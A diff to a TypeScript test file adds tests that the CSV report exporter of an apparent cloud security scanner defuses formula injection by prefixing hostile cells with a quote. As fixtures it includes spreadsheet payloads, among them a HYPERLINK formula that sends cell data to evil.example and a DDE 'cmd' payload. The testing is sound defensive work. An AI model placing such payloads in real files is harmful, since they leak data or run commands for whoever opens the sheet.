@@ -1,4 +1,5 @@
-import { renderReport, type ScanFinding, type ScanResult } from '../../api/export';
+import { csvField, renderReport, type ScanFinding, type ScanResult } from '../../api/export';
+import { parseCsv } from '../scan/csv-parse';
 
 function finding(overrides: Partial<ScanFinding>): ScanFinding {
   return {
@@ -80,6 +81,35 @@ describe('CSV report', () => {
       .find((line) => line.includes('arn:aws:s3:::muted'));
     expect(row).toContain(',suppressed,');
     expect(row).toContain('accepted <risk>');
+  });
+
+  it.each([
+    ['=', '=HYPERLINK("http://evil.example/?"&A1,"open")'],
+    ['+', "+1+cmd|' /C calc'!A0"],
+    ['-', '-2+3'],
+    ['@', '@SUM(1,2)'],
+    ['tab', '\t=1+1'],
+    ['carriage return', '\r=1+1'],
+  ])('defuses a cell starting with %s as OWASP advises: a leading quote', (_name, hostile) => {
+    const csv = renderReport(
+      result([finding({ resourceId: hostile, reason: `bucket ${hostile}`, evidence: [hostile] })]),
+      'csv',
+    );
+    const [header, row] = parseCsv(csv);
+    const cell = (column: string) => row[header.indexOf(column)];
+    expect(cell('resource_id')).toBe(`'${hostile}`);
+    expect(cell('evidence')).toBe(`'${hostile}`);
+    // Only the start of a cell is dangerous; text inside is left as it is.
+    expect(cell('reason')).toBe(`bucket ${hostile}`);
+    expect(cell('control_id')).toBe('s3_bucket_default_encryption_enabled');
+  });
+
+  it('writes numbers as numbers, negative ones included, and defuses text that only looks like one', () => {
+    expect(csvField(-42)).toBe('-42');
+    expect(csvField(0.5)).toBe('0.5');
+    expect(csvField(Number.NaN)).toBe('');
+    expect(csvField('-42')).toBe("'-42");
+    expect(csvField('sg-0a1b2c3d')).toBe('sg-0a1b2c3d');
   });
 });
 
